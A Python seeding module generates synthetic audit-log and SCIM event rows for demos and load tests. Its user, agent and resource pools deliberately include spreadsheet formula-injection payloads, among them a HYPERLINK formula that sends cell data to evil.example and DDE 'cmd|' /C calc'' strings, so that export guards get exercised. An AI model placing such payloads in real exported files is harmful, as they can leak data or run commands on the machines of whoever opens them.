"""Synthetic, realistic-looking audit log entries and SCIM events for demos and load tests.

Rows are drawn from small precomputed pools (actors, actions, addresses, agents, bodies)
so that a million rows cost little more than the COPY itself. A few values are hostile on
purpose (cells starting with ``=``, agents with commas and quotes) so that exports are
exercised against spreadsheet formula injection.
"""

from __future__ import annotations

import ipaddress
import random
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import datetime, timedelta
from uuid import UUID

import asyncpg

from logexport.entries import (
    AuditLogEntryInput,
    IpAddress,
    ScimEventInput,
    prepare_json,
    prepare_scim_body,
    record_audit_log_entries,
    record_scim_events,
)
from logexport.errors import BadUserInput

_FIRST = [
    "Ada",
    "Grace",
    "Alan",
    "Edsger",
    "Barbara",
    "Ken",
    "Margaret",
    "Linus",
    "Radia",
    "Donald",
    "Frances",
    "Dennis",
    "Katherine",
    "Tim",
    "Sophie",
    "Yukihiro",
]
_LAST = [
    "Lovelace",
    "Hopper",
    "Turing",
    "Dijkstra",
    "Liskov",
    "Thompson",
    "Hamilton",
    "Torvalds",
    "Perlman",
    "Knuth",
    "Allen",
    "Ritchie",
    "Johnson",
    "Berners-Lee",
    "Wilson",
    "Matsumoto",
]

# (name, email) pairs meant to trip spreadsheet formula guards in exported files.
_HOSTILE_USERS = [
    ('=HYPERLINK("http://evil.example/?x="&A1,"Click")', "formula@example.test"),
    ("+1 (555) 010-9999", "plus@example.test"),
    ("-Mallory", "minus@example.test"),
    ("@SUM(1+1)*cmd|' /C calc'!A0", "at@example.test"),
    ("\tTabbed Name", "tab@example.test"),
    ('O\'Brien, "Pat"', "quotes@example.test"),
]

_USER_AGENTS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/124.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_4_1) AppleWebKit/605.1.15 (KHTML, like Gecko) "
    "Version/17.4.1 Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 "
    "(KHTML, like Gecko) Version/17.4 Mobile/15E148 Safari/604.1",
    "curl/8.5.0",
    "python-httpx/0.27.0",
    "Terraform/1.8.2 terraform-provider-acme/2.3.0",
    "Agent, \"quoted\" =cmd|' /C calc'!A0",
]
_SCIM_AGENTS = ["Okta SCIM Client 1.0", "Azure AD SCIM Provisioning", "OneLogin SCIM/2.0"]

# (action, resource type, weight): logins dominate real audit logs.
_ACTIONS: list[tuple[str, str, int]] = [
    ("user.login", "User", 40),
    ("user.logout", "User", 12),
    ("user.login_failed", "User", 6),
    ("user.password_change", "User", 3),
    ("user.mfa.enroll", "User", 2),
    ("user.invite", "User", 2),
    ("role.assign", "Membership", 3),
    ("role.revoke", "Membership", 1),
    ("apikey.create", "ApiKey", 2),
    ("apikey.revoke", "ApiKey", 1),
    ("sso.config.update", "SsoConnection", 1),
    ("org.settings.update", "Organization", 1),
    ("group.member.add", "Group", 3),
    ("group.member.remove", "Group", 1),
    ("user.provision", "User", 4),
    ("user.deprovision", "User", 1),
    ("document.download", "Document", 10),
    ("document.share", "Document", 4),
]


@dataclass(frozen=True)
class _Actor:
    actor_type: str
    actor_id: str | None
    email: str | None
    name: str | None


def _users(rng: random.Random, count: int) -> list[tuple[str, str, str]]:
    """(id, email, full name) of synthetic people, hostile ones included."""
    people = []
    for i in range(count):
        first, last = rng.choice(_FIRST), rng.choice(_LAST)
        email = f"{first}.{last}{i}@example.com".lower()
        people.append((f"usr_{i:05d}", email, f"{first} {last}"))
    for i, (name, email) in enumerate(_HOSTILE_USERS):
        people.append((f"usr_h{i}", email, name))
    return people


def _actors(rng: random.Random, people: list[tuple[str, str, str]]) -> list[_Actor]:
    actors = [_Actor("USER", uid, email, name) for uid, email, name in people]
    for i, (_, email, name) in enumerate(rng.sample(people[:-6], 4)):
        actors.append(_Actor("API_KEY", f"key_{i:04d}", email, f"{name}'s CI key"))
    actors.append(_Actor("SYSTEM", None, None, "logexport"))
    actors.append(_Actor("SYSTEM", "retention-job", None, "Retention job"))
    actors.append(_Actor("SCIM", "scim_okta", None, "Okta provisioning"))
    actors.append(_Actor("SCIM", "scim_azure", None, "Azure AD provisioning"))
    return actors


def _ips(rng: random.Random) -> list[IpAddress]:
    # Documentation ranges only (RFC 5737, RFC 3849): never a real host.
    v4 = [
        f"{net}.{rng.randrange(1, 255)}"
        for net in ("192.0.2", "198.51.100", "203.0.113")
        for _ in range(60)
    ]
    v6 = [f"2001:db8:{rng.randrange(0x10000):x}::{rng.randrange(1, 0x10000):x}" for _ in range(60)]
    return [ipaddress.ip_address(text) for text in v4 + v6]


def _metadata(
    rng: random.Random, action: str, people: list[tuple[str, str, str]]
) -> dict[str, object]:
    if action.startswith("user.login"):
        return {
            "method": rng.choice(["password", "sso", "passkey"]),
            "mfa": rng.random() < 0.7,
            "geo": {
                "country": rng.choice(["US", "DE", "JP", "BR", "IN"]),
                "asn": 64500 + rng.randrange(10),
            },
            **({"reason": "invalid_password"} if action == "user.login_failed" else {}),
        }
    if action.startswith("role."):
        return {
            "role": {
                "old": rng.choice(["VIEWER", "ADMIN", None]),
                "new": rng.choice(["VIEWER", "ADMIN", "OWNER"]),
            }
        }
    if action.startswith("group."):
        return {
            "group": {"name": rng.choice(["Engineering", "Finance", "=Sales"])},
            "members": [rng.choice(people)[0] for _ in range(rng.randrange(1, 4))],
        }
    if action == "sso.config.update":
        return {
            "changes": [
                {"field": "idp_certificate", "old": "sha256:ab12…", "new": "sha256:cd34…"},
                {"field": "enforce_sso", "old": False, "new": True},
            ]
        }
    if action.startswith("document."):
        return {
            "document": {
                "title": rng.choice(["Q3 plan.xlsx", "Roadmap", "-cmd notes"]),
                "size": rng.randrange(1, 10_000_000),
            },
            "tags": rng.sample(["internal", "legal", "hr", "public"], 2),
        }
    return {
        "source": rng.choice(["console", "api", "terraform"]),
        "request_id": f"req_{rng.getrandbits(48):012x}",
    }


def _audit_stream(
    organization_id: UUID, count: int, start: datetime, span_us: int, rng: random.Random
) -> Iterator[AuditLogEntryInput]:
    people = _users(rng, 40)
    actors = _actors(rng, people)
    ips = _ips(rng)
    weights = [w for _, _, w in _ACTIONS]
    # Prebuilt, already-encoded metadata objects shared between rows.
    metadata = {
        a: [prepare_json(_metadata(rng, a, people)) for _ in range(64)] for a, _, _ in _ACTIONS
    }
    resources = [f"res_{i:06d}" for i in range(500)] + ["|calc", "=1+1"]
    people_ids = [p[0] for p in people]
    step = span_us / max(count, 1)
    done = 0
    while done < count:
        # Drawing a chunk per call to ``choices`` is several times cheaper than per row.
        n = min(count - done, 10_000)
        for (action, resource_type, _), actor, ip, agent, user_id, resource, md, offset in zip(
            rng.choices(_ACTIONS, weights=weights, k=n),
            rng.choices(actors, k=n),
            rng.choices(ips, k=n),
            rng.choices(_USER_AGENTS, k=n),
            rng.choices(people_ids, k=n),
            rng.choices(resources, k=n),
            rng.choices(range(64), k=n),
            # Rows arrive roughly in time order, as in a live log: each chunk covers
            # its own slice of the range.
            sorted(int((done + rng.random() * n) * step) for _ in range(n)),
            strict=True,
        ):
            system = actor.actor_type == "SYSTEM"
            # Positional: keyword arguments double the cost of building a million inputs.
            yield AuditLogEntryInput(
                organization_id,
                action,
                actor.actor_type,
                actor.actor_id,
                actor.email,
                actor.name,
                resource_type,
                user_id if resource_type == "User" else resource,
                None if system else ip,
                None if system else agent,
                metadata[action][md],
                start + timedelta(microseconds=offset),
            )
        done += n


def _scim_user(
    rng: random.Random, uid: str, email: str, name: str, password: bool
) -> dict[str, object]:
    first, _, last = name.partition(" ")
    body: dict[str, object] = {
        "schemas": ["urn:ietf:params:scim:schemas:core:2.0:User"],
        "userName": email,
        "externalId": uid,
        "name": {"givenName": first, "familyName": last},
        "emails": [{"value": email, "type": "work", "primary": True}],
        "active": True,
    }
    if password:
        body["password"] = f"Pw-{rng.getrandbits(64):016x}"
    return body


# (method, path, user_name, status, error, request body, response body)
_ScimTemplate = tuple[str, str, str | None, int, str | None, object, object]


def _scim_templates(rng: random.Random) -> list[_ScimTemplate]:
    """Sample SCIM requests and their answers, bodies as JSON objects."""
    people = _users(rng, 200)
    templates: list[_ScimTemplate] = []
    errors = [
        (409, "uniqueness: User already exists in the database."),
        (400, "invalidValue: Attribute 'emails' has an invalid value."),
        (404, "Resource not found"),
        (429, "Too many requests"),
        (500, "Internal server error"),
    ]
    for uid, email, name in people:
        scim_id = f"{rng.getrandbits(128):032x}"
        resource = _scim_user(rng, uid, email, name, password=False)
        stored = {
            **resource,
            "id": scim_id,
            "meta": {"resourceType": "User", "location": f"/scim/v2/Users/{scim_id}"},
        }
        create = _scim_user(rng, uid, email, name, password=rng.random() < 0.4)
        templates.append(("POST", "/Users", email, 201, None, create, stored))
        templates.append(
            (
                "GET",
                f'/Users?filter=userName eq "{email}"',
                email,
                200,
                None,
                None,
                {"totalResults": 1, "Resources": [stored]},
            )
        )
        operations: list[dict[str, object]] = [
            {"op": "replace", "path": "active", "value": rng.random() < 0.5}
        ]
        if rng.random() < 0.3:
            operations.append(
                {"op": "replace", "path": "password", "value": f"Pw-{rng.getrandbits(40):x}"}
            )
        patch = {
            "schemas": ["urn:ietf:params:scim:api:messages:2.0:PatchOp"],
            "Operations": operations,
        }
        templates.append(("PATCH", f"/Users/{scim_id}", email, 200, None, patch, stored))
        templates.append(("PUT", f"/Users/{scim_id}", email, 200, None, create, stored))
        templates.append(("DELETE", f"/Users/{scim_id}", email, 204, None, None, None))
        status, message = rng.choice(errors)
        error_body = {
            "schemas": ["urn:ietf:params:scim:api:messages:2.0:Error"],
            "status": str(status),
            "detail": message,
        }
        templates.append(("POST", "/Users", email, status, message, create, error_body))
    for group in ("Engineering", "Finance", "=Sales", "Support"):
        gid = f"{rng.getrandbits(128):032x}"
        members = [{"value": p[0]} for p in rng.sample(people, 5)]
        templates.append(
            (
                "POST",
                "/Groups",
                None,
                201,
                None,
                {
                    "schemas": ["urn:ietf:params:scim:schemas:core:2.0:Group"],
                    "displayName": group,
                    "members": members,
                },
                {"id": gid, "displayName": group},
            )
        )
        templates.append(
            (
                "PATCH",
                f"/Groups/{gid}",
                None,
                204,
                None,
                {
                    "schemas": ["urn:ietf:params:scim:api:messages:2.0:PatchOp"],
                    "Operations": [{"op": "add", "path": "members", "value": members[:2]}],
                },
                None,
            )
        )
    uid, email, name = people[0]
    templates.append(
        (
            "POST",
            "/Bulk",
            None,
            200,
            None,
            {
                "schemas": ["urn:ietf:params:scim:api:messages:2.0:BulkRequest"],
                "Operations": [
                    {
                        "method": "POST",
                        "path": "/Users",
                        "bulkId": "b1",
                        "data": _scim_user(rng, uid, email, name, password=True),
                    }
                ],
            },
            {
                "schemas": ["urn:ietf:params:scim:api:messages:2.0:BulkResponse"],
                "Operations": [{"bulkId": "b1", "status": "201"}],
            },
        )
    )
    templates.append(
        ("POST", "/Users", " =cmd|' /C calc'!A0", 400, "-invalid userName", None, None)
    )
    return templates


def _scim_stream(
    organization_id: UUID, count: int, start: datetime, span_us: int, rng: random.Random
) -> Iterator[ScimEventInput]:
    # Bodies are redacted and encoded once per template, not once per row.
    templates = [
        (method, path, user, status, error,
         prepare_scim_body(request, method=method, path=path),
         prepare_scim_body(response, method=method, path=path))
        for method, path, user, status, error, request, response in _scim_templates(rng)
    ]  # fmt: skip
    ips = _ips(rng)
    randrange, choice = rng.randrange, rng.choice
    for _ in range(count):
        method, path, user_name, status, error, request, response = choice(templates)
        yield ScimEventInput(
            organization_id=organization_id,
            method=method,
            path=path,
            status_code=status,
            user_name=user_name,
            error_message=error,
            ip_address=choice(ips),
            user_agent=choice(_SCIM_AGENTS),
            request_body=request,
            response_body=response,
            created_at=start + timedelta(microseconds=randrange(span_us)),
        )


async def seed(
    conn: asyncpg.Connection,
    organization_id: UUID,
    *,
    audit_entries: int,
    scim_events: int,
    start: datetime,
    end: datetime,
    rng_seed: int = 0,
) -> tuple[int, int]:
    """Write synthetic rows spread uniformly over ``[start, end)``; returns the counts.

    The same ``rng_seed`` yields the same content (ids excepted).
    """
    if audit_entries < 0:
        raise BadUserInput("audit_entries must not be negative", field="audit_entries")
    if scim_events < 0:
        raise BadUserInput("scim_events must not be negative", field="scim_events")
    if not start < end:
        raise BadUserInput("start must be before end", field="start")
    span_us = (end - start) // timedelta(microseconds=1)
    rng = random.Random(rng_seed)
    audit = await record_audit_log_entries(
        conn, _audit_stream(organization_id, audit_entries, start, span_us, rng)
    )
    scim = await record_scim_events(
        conn, _scim_stream(organization_id, scim_events, start, span_us, rng)
    )
    return audit, scim
